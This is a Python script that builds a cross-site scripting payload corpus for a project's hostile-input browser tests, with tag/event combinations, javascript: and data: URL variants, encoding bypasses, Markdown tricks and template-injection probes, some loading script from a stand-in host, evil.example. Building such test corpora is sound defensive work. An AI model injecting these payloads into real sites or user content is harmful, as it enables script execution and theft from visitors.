"""Write tests/security/xss_payloads.txt: cross-site scripting payloads for the hostile-input tests.

The corpus combines classic vectors (tags, event attributes, javascript: URLs, encodings,
SVG, Markdown tricks, attribute breakouts, template syntax). Every payload, if it ever ran,
would call ``xss()``; the browser test defines ``window.xss`` to record that.
Run: python tools/make_xss_corpus.py. Read a line back with
``line.encode("ascii").decode("unicode_escape")``.
"""

from __future__ import annotations

import html
import itertools
import os
import urllib.parse

CALL = "xss(1)"

TAGS = ["img", "svg", "body", "iframe", "video", "audio", "details", "input", "a", "div",
        "marquee", "object", "embed", "math", "select", "textarea", "keygen", "isindex", "form", "style"]
EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin",
          "onanimationstart", "onpointerenter", "onauxclick"]
SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java&#x09;script:", "&#106;avascript:",
           " javascript:", "javascript&colon;", "vbscript:", "data:text/html,<script>xss(1)</script>",
           "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4="]


def payloads() -> list[str]:
    out: list[str] = []
    out += [
        f"<script>{CALL}</script>",
        f"<ScRiPt>{CALL}</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        f"<script>/*</script><script>*/{CALL}</script>",
        f"<<script>script>{CALL}<</script>/script>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"</title><script>{CALL}</script>",
        f"</textarea><script>{CALL}</script>",
        f"</style><script>{CALL}</script>",
        f"--><script>{CALL}</script>",
        f"]]><script>{CALL}</script>",
        f"<!--<script>-->{CALL}<!--</script>-->",
        f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg/onload={CALL}>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><a xlink:href=\"javascript:{CALL}\"><text x=20 y=20>x</text></a></svg>",
        f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{CALL}'/></svg>#x\"/></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
        f"<iframe srcdoc=\"<script>parent.{CALL}</script>\"></iframe>",
        f"<object data=\"javascript:{CALL}\">",
        f"<embed src=\"javascript:{CALL}\">",
        f"<base href=\"javascript:{CALL}//\">",
        f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{CALL}\">",
        f"<link rel=import href=\"data:text/html,<script>{CALL}</script>\">",
        f"<form><button formaction=javascript:{CALL}>x</button></form>",
        f"<isindex action=javascript:{CALL} type=submit>",
        f"<input autofocus onfocus={CALL}>",
        f"<details open ontoggle={CALL}>",
        f"<marquee onstart={CALL}>",
        f"<img src=x onerror=\"{CALL}\">",
        f"<img src=x onerror='{CALL}'>",
        "<img src=x onerror=&#x78;&#x73;&#x73;(1)>",
        f"<img src=x oNeRrOr={CALL}>",
        f"<img/src=x/onerror={CALL}>",
        f"<img src=`x` onerror={CALL}>",
        "<img src=x:x onerror=eval(atob('eHNzKDEp'))>",
        f"<img src=\"x\" alt=\"\" onerror=\"{CALL}\"/>",
        f"<div style=\"background:url(javascript:{CALL})\">",
        f"<div style=\"width:expression({CALL})\">",
        f"<style>@import 'javascript:{CALL}';</style>",
        f"<a href=\"javascript:{CALL}\">click</a>",
        f"<a href=\"  javascript:{CALL}\">click</a>",
        f"<a href=\"jav&#x0A;ascript:{CALL}\">click</a>",
        f"<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{CALL}\">x</a>",
        f"<a href=\"data:text/html,<script>{CALL}</script>\">x</a>",
        f"<a href=\"#\" onclick=\"{CALL}\">x</a>",
        f"\"><script>{CALL}</script>",
        f"'><script>{CALL}</script>",
        f"\" onmouseover=\"{CALL}\" x=\"",
        f"' onmouseover='{CALL}' x='",
        f"\" autofocus onfocus=\"{CALL}",
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        f"&lt;script&gt;{CALL}&lt;/script&gt;",
        f"&#60;script&#62;{CALL}&#60;/script&#62;",
        f"%3Cscript%3E{CALL}%3C/script%3E",
        f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
        f"＜script＞{CALL}＜/script＞",
        f"<scr\x00ipt>{CALL}</script>",
        f"<img src=x onerror\x0b={CALL}>",
        "{{7*7}}{{config}}{% print(1) %}",
        "${7*7}#{7*7}<%= 7*7 %>",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        # Markdown tricks
        f"[click](javascript:{CALL})",
        f"[click](JAVASCRIPT:{CALL})",
        f"[click](javascript&#58;{CALL})",
        f"[click]( javascript:{CALL} )",
        f"[click](<javascript:{CALL}>)",
        "[click](data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=)",
        f"![x](javascript:{CALL})",
        f"![x](https://evil.example/x.png\"onerror=\"{CALL})",
        f"![x\" onerror=\"{CALL}](x)",
        f"[x](https://example.org \"title\" onmouseover=\"{CALL}\")",
        f"[x]: javascript:{CALL}\n\n[x]",
        f"<javascript:{CALL}>",
        f"`<script>{CALL}</script>`",
        f"```\n<script>{CALL}</script>\n```",
        f"> <script>{CALL}</script>",
        f"* <img src=x onerror={CALL}>",
        f"**<img src=x onerror={CALL}>**",
        f"[<img src=x onerror={CALL}>](https://example.org)",
        f"[a](https://example.org\"><script>{CALL}</script>)",
        f"<https://example.org/\"><script>{CALL}</script>>",
        f"_<svg onload={CALL}>_",
        f"<a href=\"https://example.org\">ok</a><script>{CALL}</script>",
        f"\u202e<script>{CALL}</script>",
    ]
    for tag, event in itertools.product(TAGS, EVENTS):
        out.append(f"<{tag} {event}={CALL}>")
    for tag in TAGS:
        out.append(f"<{tag} src=x onerror={CALL}></{tag}>")
        out.append(f"<{tag}/onload={CALL}>")
    for scheme in SCHEMES:
        out.append(f"<a href=\"{scheme}{CALL}\">x</a>")
        out.append(f"[x]({scheme}{CALL})")
        out.append(f"<iframe src=\"{scheme}{CALL}\"></iframe>")
    raw = f"<script>{CALL}</script>"
    out.append(html.escape(raw))
    out.append(urllib.parse.quote(raw))
    out.append(urllib.parse.quote(urllib.parse.quote(raw)))
    seen: set[str] = set()
    unique = []
    for p in out:
        if p not in seen:
            seen.add(p)
            unique.append(p)
    return unique


if __name__ == "__main__":
    path = os.path.join(os.path.dirname(__file__), "..", "tests", "security", "xss_payloads.txt")
    items = payloads()
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("# Cross-site scripting payloads, one per line, written with Python's unicode_escape\n")
        fh.write("# Generated by tools/make_xss_corpus.py; every payload would call xss() if it ran.\n")
        for p in items:
            fh.write(p.encode("unicode_escape").decode("ascii") + "\n")
    print(f"{len(items)} payloads written")  # noqa: T201
